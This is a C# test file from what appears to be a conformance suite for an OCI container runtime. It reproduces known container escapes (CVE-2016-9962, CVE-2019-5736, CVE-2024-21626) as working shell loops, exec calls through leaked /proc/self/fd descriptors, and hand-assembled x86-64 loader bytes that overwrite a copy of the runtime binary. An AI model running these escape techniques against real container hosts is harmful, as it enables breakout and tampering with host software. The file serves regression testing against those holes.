using System.Security.Cryptography;
using Inro.KernelTests.Harness;

namespace Inro.Conformance.Oci.Attacks;

internal static partial class AttackList
{
    /// <summary>Descriptors that a runtime may hold while the container can look.</summary>
    private const int FirstNumber = 3;

    private const int NumbersTried = 13;
    private const int Joins = 12;

    private static IEnumerable<Attack> Descriptors() =>
    [
        new()
        {
            Case = 1, Name = "joining process", Known = "CVE-2016-9962", Against = "src/Inro.Runtime/Steps/ExecCompiler.cs",
            Does = $"a container that may trace looks through the descriptors, the directory and the root of each process that appears, while {Joins} execs join it",
            Prepare = static b => Loot.File(b), Try = Watch,
        },
        new()
        {
            Case = 2, Name = "runtime's program through its process", Known = "CVE-2019-5736", Against = "src/Inro.Linux/Processes/WalkerFile.cs",
            Does = $"an exec of a script for /proc/self/exe, {Joins} times, while the container opens each /proc/N/exe and writes to it (to a copy of the runtime)",
            Prepare = Copied, Try = Overwrite,
        },
        new()
        {
            Case = 2, Name = "runtime's program through a loader", Known = "CVE-2019-5736", Against = "src/Inro.Linux/Processes/WalkerFile.cs",
            Does = "the container's program is /proc/self/exe and its dynamic loader keeps that file open, to write to it when the runtime has gone (to a copy of the runtime)",
            Prepare = Copied, Try = Loader,
        },
        new()
        {
            Case = 8, Name = "working directory in a descriptor", Known = "CVE-2024-21626", Against = "src/Inro.Runtime/Steps/IdentityStep.cs",
            Does = $"process.cwd is /proc/self/fd/N, N from {FirstNumber} to {FirstNumber + NumbersTried - 1}, and reads a file of the host from there",
            Prepare = static b => Loot.File(b), Try = static b => EachNumber(n => Standing(b, n)),
        },
        new()
        {
            Case = 8, Name = "working directory of an exec in a descriptor", Known = "CVE-2024-21626", Against = "src/Inro.Runtime/Steps/IdentityStep.cs",
            Does = "exec --cwd /proc/self/fd/N, the same numbers",
            Prepare = static b => Loot.File(b),
            Try = static b => Inside(b, () => EachNumber(n => Loot.Of(b.Oci("exec", "--cwd", $"/proc/self/fd/{n}", b.Id, "/bin/sh", "-c", Read(b.Beside("victim-file"))).Output))),
        },
        new()
        {
            Case = 8, Name = "program in a descriptor", Known = "CVE-2024-21626", Against = "src/Inro.Runtime/Launch/LaunchBuilder.Operations.cs",
            Does = "exec of /proc/self/fd/N/../… of a program of the host, the same numbers",
            Prepare = static b =>
            {
                File.WriteAllText(b.Beside("victim-program"), "#!/bin/sh\necho got the host\\'s program\n");
                File.SetUnixFileMode(b.Beside("victim-program"), (UnixFileMode)0b111_101_101);
            },
            Try = static b => Inside(b, () => EachNumber(n => Loot.Of(b.Oci("exec", b.Id, $"/proc/self/fd/{n}/{Loot.Up}{b.Beside("victim-program")}").Output))),
        },
    ];

    private static string Read(string victim) => $"cat {Loot.Up.TrimStart('/')}{victim} 2>/dev/null | grep -q {Loot.Secret} && echo got the victim\\'s content";

    private static string Standing(Bundle bundle, int number)
    {
        bundle.Config["process"]!["cwd"] = $"/proc/self/fd/{number}";
        return Loot.Run(bundle, Read(bundle.Beside("victim-file")));
    }

    private static string EachNumber(Func<int, string> attack) =>
        string.Concat(Enumerable.Range(FirstNumber, NumbersTried).Select(n => attack(n) is { Length: > 0 } got ? $"{got} ({n})\n" : ""));

    /// <summary>Does something to a container that runs, and removes it.</summary>
    private static string Inside(Bundle bundle, Func<string> attack, string script = "exec sleep 60")
    {
        bundle.Script(script);
        bundle.Detach().Ok();
        string got = attack();
        bundle.Oci("delete", "--force", bundle.Id);
        return got;
    }

    private static string Watch(Bundle bundle)
    {
        foreach (string set in (string[])["bounding", "permitted", "effective"]) { bundle.Config["process"]!["capabilities"]![set]!.AsArray().Add("CAP_SYS_PTRACE"); }

        // Built-in commands alone: a look takes microseconds.
        string look = $"for f in $p/fd/* $p/cwd $p/root; do read x <$f/{Loot.Up}{bundle.Beside("victim-file")} && echo \"got $f\" >>/loot; done";
        return Inside(
            bundle,
            () =>
            {
                Loot.WaitFor(bundle.Rootfs + "/ready");
                for (int i = 0; i < Joins; i++) { bundle.Oci("exec", bundle.Id, "/bin/true").Ok(); }

                return Loot.Written(bundle);
            },
            $"exec 2>/dev/null; : >/ready; while :; do for p in /proc/[0-9]*; do [ $p = /proc/1 ] || {{ {look}; }}; done; done");
    }

    private static void Copied(Bundle bundle)
    {
        string program = bundle.Runtime.Command.First(static c => c.EndsWith("inro-oci", StringComparison.Ordinal) || c is "runc" or "crun");
        string copy = bundle.Beside(Path.GetFileName(program));
        File.Copy(Machine.FindTool(program)!, copy); // there: the test asked
        File.SetUnixFileMode(copy, (UnixFileMode)0b111_101_101);
        bundle.Runtime = bundle.Runtime with { Command = [.. bundle.Runtime.Command.Select(c => c == program ? copy : c)] };
        File.WriteAllText(bundle.Beside("sum"), Sum(copy));
    }

    private static string Sum(string path) => Convert.ToHexString(SHA256.HashData(File.ReadAllBytes(path)));

    private static string Changed(Bundle bundle)
    {
        string copy = bundle.Runtime.Command.First(c => c.StartsWith(bundle.Beside(""), StringComparison.Ordinal));
        return Sum(copy) == File.ReadAllText(bundle.Beside("sum")) ? "" : Loot.Mark + "to write to the runtime's program";
    }

    private static string Overwrite(Bundle bundle)
    {
        File.WriteAllText(bundle.Rootfs + "/bin/trap", "#!/proc/self/exe\n");
        File.SetUnixFileMode(bundle.Rootfs + "/bin/trap", (UnixFileMode)0b111_101_101);
        Inside(
            bundle,
            () =>
            {
                Loot.WaitFor(bundle.Rootfs + "/ready");
                for (int i = 0; i < Joins; i++) { bundle.Oci("exec", bundle.Id, i % 2 == 0 ? "/bin/trap" : "/bin/true"); }

                return "";
            },
            "exec 2>/dev/null; : >/ready; while :; do for p in /proc/[0-9]*; do [ $p = /proc/1 ] || { exec 7<$p/exe && for n in 1 2 3 4 5 6; do echo x >/proc/$$/fd/7; done; }; done; done");
        return Changed(bundle);
    }

    private static string Loader(Bundle bundle)
    {
        Directory.CreateDirectory(bundle.Rootfs + "/lib64");
        foreach (string loader in (string[])["lib64/ld-linux-x86-64.so.2", "bin/keep"]) { SmallProgram.Write($"{bundle.Rootfs}/{loader}", KeepsItsFile); }

        File.WriteAllText(bundle.Rootfs + "/a", "i=0; while [ $i -lt 60 ]; do for f in 3 4 5 6; do echo x >/proc/$$/fd/$f; done; i=$((i+1)); usleep 10000; done 2>/dev/null; : >/done\n");
        JsonPath.Put(bundle.Config, "process.args", """["/proc/self/exe","--version"]""");
        if (bundle.Detach().ExitCode == 0 && Directory.Exists(bundle.State + "/" + bundle.Id))
        {
            DateTime end = DateTime.UtcNow + TimeSpan.FromSeconds(2);
            while (!File.Exists(bundle.Rootfs + "/done") && DateTime.UtcNow < end) { Thread.Sleep(20); }
        }

        return Changed(bundle);
    }

    /// <summary>open("/proc/self/exe", O_RDONLY); execve("/bin/sh", ["/bin/sh", "/a"], NULL): the shell inherits the descriptor.</summary>
    private static byte[] KeepsItsFile =>
    [
        0x48, 0x8D, 0x3D, 0x30, 0, 0, 0, 0x31, 0xF6, 0xB8, 2, 0, 0, 0, 0x0F, 0x05, // lea rdi, exe; xor esi, esi; mov eax, 2; syscall
        0x48, 0x8D, 0x3D, 0x2F, 0, 0, 0, 0x48, 0x8D, 0x05, 0x30, 0, 0, 0, // lea rdi, sh; lea rax, a
        0x6A, 0, 0x50, 0x57, 0x48, 0x89, 0xE6, 0x31, 0xD2, // push 0; push rax; push rdi; mov rsi, rsp; xor edx, edx
        0xB8, 59, 0, 0, 0, 0x0F, 0x05, 0x31, 0xFF, 0xB8, 60, 0, 0, 0, 0x0F, 0x05, // execve; exit
        .. "/proc/self/exe\0"u8, .. "/bin/sh\0"u8, .. "/a\0"u8,
    ];
}
